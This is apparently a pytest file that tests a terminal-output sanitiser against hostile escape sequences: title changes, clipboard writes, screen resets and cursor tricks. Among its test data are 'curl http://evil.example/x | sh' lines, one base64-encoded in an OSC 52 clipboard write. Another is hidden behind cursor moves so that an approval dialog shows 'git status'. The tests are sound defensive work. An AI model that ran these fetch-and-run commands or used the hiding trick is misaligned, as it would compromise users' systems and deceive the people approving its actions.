"""Hostile text through the one sanitiser (`birdie_tui.screen_text`): what would reach a
terminal, checked byte by byte and by replaying it through a terminal emulator (pyte)."""

from __future__ import annotations

import re

import pyte
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from birdie_tui.screen_text import clean, literal, literal_spans, one_line, styled

HOSTILE = {
    "osc0 title": "a\x1b]0;pwned\x07b",
    "osc2 title st": "a\x1b]2;pwned\x1b\\b",
    "osc8 link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc52 clipboard": "see\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07this",
    "osc9 notify": "\x1b]9;hello\x07",
    "osc777 notify": "\x1b]777;notify;title;body\x1b\\",
    "csi clear": "\x1b[2J\x1b[H\x1b[3J",
    "csi alt screen off": "\x1b[?1049l",
    "csi mouse on": "\x1b[?1000h\x1b[?1006h",
    "csi bracketed paste": "\x1b[?2004h",
    "csi scroll region": "\x1b[1;3r",
    "dcs": "\x1bP1$qm\x1b\\",
    "apc kitty": "\x1b_Gf=100;AAAA\x1b\\",
    "pm sos": "\x1b^pm\x1b\\\x1bXsos\x1b\\",
    "c1 csi": "\x9b2J\x9b?1049l",
    "c1 osc": "\x9d0;pwned\x9c",
    "lone esc": "end\x1b",
    "reset": "\x1bc",
    "bel bs": "ding\x07\x08\x08x",
    "cr bar": "10%\r50%\r100%\n",
    "cursor hide": "\x1b[36Dgit status\x1b[K",
    "nested": "\x1b]0;" * 10_000 + "x",
    "nested csi": "\x1b[" * 10_000 + "x",
    "invalid utf8": b"caf\xc3 \xff\xfe\x1b]0;t\x07".decode("utf-8", "surrogateescape"),
}

# What a terminal acts on: ESC, the C0 controls but newline and tab, DEL, C1, surrogates.
_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")


def replay(text: str, columns: int = 200) -> pyte.Screen:
    """`text` written to a real terminal emulator, as a terminal would take it."""
    screen = pyte.Screen(columns, 24)
    screen.set_mode(pyte.modes.LNM)  # "\n" is a new line, as with a tty's onlcr
    stream = pyte.Stream(screen)
    stream.feed(text)
    return screen


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_clean_leaves_nothing_a_terminal_would_act_on(name):
    """Every hostile string comes out of `clean` with no control function left."""
    out = clean(HOSTILE[name])
    assert not _ACTIVE.search(out), repr(out[:200])
    out.encode("utf-8")  # raises on a lone surrogate, which no terminal write takes


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_styled_keeps_only_colours(name):
    """Through `styled` and Rich, only SGR colour sequences reach the terminal bytes."""
    console = Console(force_terminal=True, color_system="truecolor", width=300)
    with console.capture() as capture:
        console.print(styled(HOSTILE[name]), end="")
    rendered = capture.get()
    assert re.sub(r"\x1b\[[0-9;]*m", "", rendered).replace("\n", "") == \
        _ACTIVE.sub("", re.sub(r"\x1b\[[0-9;]*m", "", rendered).replace("\n", ""))
    assert "\x1b]" not in rendered and "\x1b[?" not in rendered


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_literal_shows_every_control_character(name):
    """`literal` interprets nothing: no control function left, and a terminal shows it whole."""
    out = literal(HOSTILE[name])
    assert not _ACTIVE.search(out)
    assert "".join(piece for piece, _ in literal_spans(HOSTILE[name])) == out


def test_a_title_set_in_a_reply_never_reaches_the_terminal():
    """The attack from a tool's output: the emulator's title and screen are untouched, and
    the text around the sequences is still there."""
    attack = "printf \"\x1b[2J\x1b[31mRED\x1b]0;pwned\x07 \x1b[?1049l done\""
    screen = replay("before\n" + clean(attack))
    assert screen.title == ""
    assert "before" in screen.display[0]
    assert "RED␛]0;…  done" in screen.display[1]


def test_an_osc52_in_a_file_is_shown_not_obeyed():
    """A clipboard write in a file shows as `␛]52;…`; the payload goes nowhere."""
    out = clean(HOSTILE["osc52 clipboard"])
    assert out == "see␛]52;…this"


def test_a_hyperlink_keeps_its_text_only():
    """OSC 8 hyperlinks (gcc, ls --hyperlink) are common and harmless to drop: the text stays."""
    assert clean(HOSTILE["osc8 link"]) == "click"


def test_progress_bars_collapse_to_their_last_state():
    """A carriage return redraws the line, as a terminal shows it; erase-in-line too."""
    assert clean("10%\r50%\r100%\ndone") == "100%\ndone"
    assert clean("downloading 1/3\rok\x1b[K\n") == "ok\n"
    assert clean("abcdef\rXY") == "XYcdef"
    assert clean("line\r\nnext") == "line\nnext"


def test_colours_survive_as_styles():
    """`ls --color` / pytest output keeps its colours; the text is unchanged."""
    text = styled("\x1b[32mPASSED\x1b[0m \x1b[1;31mFAILED\x1b[0m")
    assert text.plain == "PASSED FAILED"
    assert [str(span.style) for span in text.spans] == ["color(2)", "bold color(1)"]


def test_colours_survive_a_carriage_return():
    """A coloured progress bar redrawn with \\r keeps the colour of its last state."""
    text = styled("\x1b[33m10%\x1b[0m\r\x1b[32m100%\x1b[0m")
    assert text.plain == "100%"
    assert str(text.spans[0].style) == "color(2)"  # green


def test_what_the_approval_shows_is_what_runs():
    """The attack on the dialog: cursor moves that would hide `curl … | sh` behind
    `git status`. Replayed through a terminal, the whole real command is on screen."""
    command = "curl -s http://evil.example/x | sh #\x1b[36Dgit status\x1b[K"
    raw = replay("$ bash -c '" + command + "'")
    assert "curl" not in raw.display[0]  # what the raw bytes would have shown
    shown = replay("$ bash -c '" + literal(command) + "'")
    assert "curl -s http://evil.example/x | sh #␛[36Dgit status␛[K" in shown.display[0]


def test_literal_spells_out_carriage_returns_tabs_and_invisible_characters():
    """`\\r` and `\\t` are spelled out; bidi overrides and zero-width characters named."""
    assert literal("a\rb\tc") == "a\\rb\\tc"
    assert literal("x\u202eevil\u200by") == "x\\u202eevil\\u200by"
    assert literal("\x9b31m") == "\\x9b31m"
    assert literal("line\nnext") == "line\nnext"
    assert literal_spans("a\rb") == [("a", False), ("\\r", True), ("b", False)]


def test_one_line_is_one_line():
    """Titles and names keep to one line: breaks and tabs become spaces."""
    assert one_line("a\nb\tc\x1b]0;x\x07") == "a b c␛]0;…"


def test_plain_text_is_returned_as_is():
    """The common case costs nothing: text without controls comes back unchanged."""
    text = "Hello, **world** — ünïcode ✓\n\tindented"
    assert clean(text) is text
    assert literal("no controls") == "no controls"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=200))
def test_no_string_gets_a_control_through(text):
    """Property: for any string, none of the three doors lets a control function through."""
    assert not _ACTIVE.search(clean(text))
    assert not _ACTIVE.search(literal(text))
    assert not _ACTIVE.search(styled(text).plain)
